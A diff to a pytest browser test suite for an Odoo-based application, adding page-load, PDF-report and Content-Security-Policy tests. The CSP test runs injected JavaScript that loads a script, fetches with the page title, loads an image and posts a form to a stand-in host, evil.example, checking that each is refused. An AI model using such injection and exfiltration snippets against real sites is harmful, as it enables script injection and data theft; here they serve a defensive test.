@@ -11,8 +11,6 @@ import urllib.parse
 
 import pytest
 
-from odoo import SUPERUSER_ID, api
-from odoo.modules.registry import Registry
 from odoo.tools import config
 
 from launcher.home import REPOSITORY
@@ -287,13 +285,90 @@ class TestBrowser:
         browser.open(path, selector)
         assert browser.faults == []
 
+    def test_the_page_of_one_s_choices_works(self, browser, site):
+        browser.faults.clear()
+        browser.open(preferences_path(site), "form")
+        assert browser.faults == []
 
-def preferences_path(place, database):
+    @pytest.mark.parametrize(
+        ("path", "selector"),
+        [
+            ("/odoo/contacts", ".o_view_controller"),
+            ("/odoo/contacts/1", ".o_form_view"),
+            ("/odoo/crm", ".o_view_controller"),
+            ("/odoo/settings", ".o_form_view"),
+            (
+                "/odoo/action-mass_mailing.mailing_mailing_action_mail/new",
+                ".o_form_view",
+            ),
+            ("/my", ".o_portal_my_home"),
+            ("/my/security", "form"),
+        ],
+    )
+    def test_a_page_of_the_application_works(self, browser, session, path, selector):
+        browser.set_cookie(cookie_of(session))
+        browser.faults.clear()
+        browser.open(path, selector)
+        assert browser.faults == []
+
+    def test_a_pdf_is_shown(self, site, browser, session):
+        """As by the button Print: fetched by a form, here by its address."""
+        browser.set_cookie(cookie_of(session))
+        browser.open("/my", ".o_portal_my_home")
+        browser.faults.clear()
+        size = browser.evaluate(
+            "fetch('/report/pdf/sunumarche_crm.customer_card_document/1')"
+            ".then(r => r.blob()).then(b => b.type + ' ' + (b.size > 1000))"
+        )
+        assert size == "application/pdf true"
+        assert browser.faults == []
+
+    def test_nothing_is_loaded_from_elsewhere_nor_sent_there(self, browser):
+        browser.open("/web/login", "form.oe_login_form")
+        browser.faults.clear()
+        for script in (
+            (
+                "new Promise(r => { const s = document.createElement('script');"
+                " s.src = 'https://evil.example/x.js'; s.onerror = () => r(1);"
+                " document.head.append(s) })"
+            ),
+            "fetch('https://evil.example/?' + document.title).catch(() => 1)",
+            (
+                "new Promise(r => { const i = new Image(); i.onerror = () => r(1);"
+                " i.src = 'https://evil.example/x.png' })"
+            ),
+        ):
+            assert browser.evaluate(script) == 1
+        browser.evaluate(
+            "const f = document.createElement('form'); document.body.append(f);"
+            " f.action = 'https://evil.example/'; f.method = 'post'; f.submit()"
+        )
+        browser.evaluate("new Promise(r => setTimeout(r, 300))")
+        refused = json.dumps(browser.faults)
+        for directive in ("script-src", "connect-src", "img-src", "form-action"):
+            assert directive in refused
+
+
+PREFERENCES = """
+import sys
+from launcher.inside.environment import configure, open_environment
+configure(sys.argv[1], sys.argv[2])
+with open_environment(sys.argv[2]) as env:
+    print(env["sunumarche.consent"]._get_preferences_url("email", "a@example.com"))
+"""
+
+
+def preferences_path(site):
     """Return the link that a customer's mail holds, signed by the copy's secret."""
-    with Registry(database).cursor() as cursor:
-        env = api.Environment(cursor, SUPERUSER_ID, {})
-        url = env["sunumarche.consent"]._get_preferences_url("email", "a@example.com")
-    return urllib.parse.urlsplit(url).path
+    done = subprocess.run(
+        [sys.executable, "-c", PREFERENCES, site.folder / "odoo.conf", site.database],
+        check=True,
+        cwd=REPOSITORY,
+        env={**os.environ, "PYTHONPATH": python_path()},
+        capture_output=True,
+        text=True,
+    )
+    return urllib.parse.urlsplit(done.stdout.split()[-1]).path
 
 
 class TestWatch:
